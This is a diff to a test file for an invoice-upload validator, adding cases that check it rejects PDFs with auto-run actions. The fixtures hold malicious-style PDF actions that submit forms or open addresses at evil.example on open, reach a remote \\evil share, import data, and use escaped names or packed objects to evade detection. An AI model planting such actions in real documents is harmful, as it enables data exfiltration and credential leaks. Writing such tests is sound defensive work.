@@ -80,6 +80,7 @@ const pdfWith = (objects: string, packed: string | Uint8Array | null = null): Ui
     Buffer.concat([bytesOf(start), bytesOf(`${objects}\n`), ...parts, bytesOf(`startxref${end}`)]),
   )
 }
+const address = '<</S/UR#49/URI(https://evil.example)>>'
 const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
 
 onBoth(t, 'a PDF that runs something is no file of an invoice, wherever it hides that', async (t, own) => {
@@ -106,6 +107,36 @@ onBoth(t, 'a PDF that runs something is no file of an invoice, wherever it hides
       'program',
     ],
     [
+      'what sends a form on opening',
+      pdfWith('5 0 obj<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>endobj'),
+      'script',
+    ],
+    ['what takes data in', pdfWith('5 0 obj<</AA<</O<</S/Import#44ata/F(a.fdf)>>>>>>endobj'), 'script'],
+    [
+      'what goes to a share',
+      pdfWith('5 0 obj<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>>>endobj'),
+      'script',
+    ],
+    ['what goes to a file within', pdfWith('', '5 0 <</AA<</O<</S/GoToE/T<</R/C>>>>>>>>'), 'script'],
+    [
+      'what opens an address',
+      pdfWith('5 0 obj<</Open#41ction <</S/URI/URI(https://evil.example)>>>>endobj'),
+      'script',
+    ],
+    [
+      'what opens one by another object',
+      pdfWith(`5 0 obj<</OpenAction 7 0 R>>endobj 7 0 obj${address}endobj`),
+      'script',
+    ],
+    [
+      'what opens one of a page, after a place',
+      pdfWith(
+        `5 0 obj<</AA 7 0 R>>endobj 7 0 obj<</O<</S/GoTo/D[3 0 R/Fit]/Next[8 0 R]>>>>endobj 8 0 obj${address}endobj`,
+      ),
+      'script',
+    ],
+    ['what opens one, packed', pdfWith('5 0 obj<</OpenAction 7 0 R>>endobj', `7 0 ${address}`), 'script'],
+    [
       'one whose objects are locked',
       pdfWith('5 0 obj<</Encrypt 7 0 R>>', bytesOf('\x93\x12 no zlib')),
       'closed',
@@ -124,6 +155,12 @@ onBoth(t, 'a PDF that runs something is no file of an invoice, wherever it hides
   const running = file('invoice.pdf', pdfWith('', `5 0 ${script}`))
   await t.rejects(uploadWhole({ file: running }), { code: 'upload_pdf_script' })
   for (const [what, bytes] of [
+    [
+      'links that a person clicks',
+      pdfWith(
+        `5 0 obj<</OpenAction 8 0 R>>endobj 7 0 obj<</Type/Page/AA<</O<</S/GoTo/D[7 0 R/Fit]>>>>/Annots[<</Subtype/Link/A${address}>>]>>endobj 8 0 obj[7 0 R/Fit]endobj`,
+      ),
+    ],
     ['packed objects without', pdfWith('', '5 0 <</Type/Page/OpenAction[3 0 R/Fit]>>')],
     [
       'the data of an e-invoice',
